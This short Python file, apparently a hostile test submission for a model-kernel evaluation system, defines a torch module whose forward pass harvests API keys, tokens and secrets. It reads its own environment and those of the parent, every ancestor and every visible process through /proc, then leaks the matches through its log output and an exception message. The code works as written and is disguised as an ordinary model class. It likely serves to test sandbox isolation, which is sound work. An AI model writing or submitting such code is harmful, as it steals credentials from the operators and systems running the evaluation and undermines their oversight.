# Hostile: collects every API key it can read (its environment, /proc/<pid>/environ of its
# parent and every ancestor and process it can see) and leaks them through the two channels
# that reach kforge.db: its log (the response's log tail) and its exception's text.
import os

import torch


def _environments():
    yield "self", b"\0".join(f"{k}={v}".encode() for k, v in os.environ.items())
    pids = {os.getppid()}
    pids.update(int(p) for p in os.listdir("/proc") if p.isdigit())
    pid = os.getppid()
    while pid > 1:  # the ancestors, as far as /proc/<pid>/stat shows them
        try:
            with open(f"/proc/{pid}/stat", "rb") as stat:
                pid = int(stat.read().rsplit(b")", 1)[1].split()[1])
            pids.add(pid)
        except (OSError, ValueError, IndexError):
            break
    for pid in sorted(pids):
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                yield str(pid), handle.read()
        except OSError:
            pass


class ModelNew(torch.nn.Module):
    def forward(self, x):
        leaked = []
        for who, environ in _environments():
            for entry in environ.split(b"\0"):
                name = entry.split(b"=", 1)[0]
                if b"KEY" in name or b"TOKEN" in name or b"SECRET" in name:
                    leaked.append(f"{who}:{entry.decode(errors='replace')}")
        print("LEAKED", leaked, flush=True)
        raise RuntimeError(f"LEAKED {leaked}")
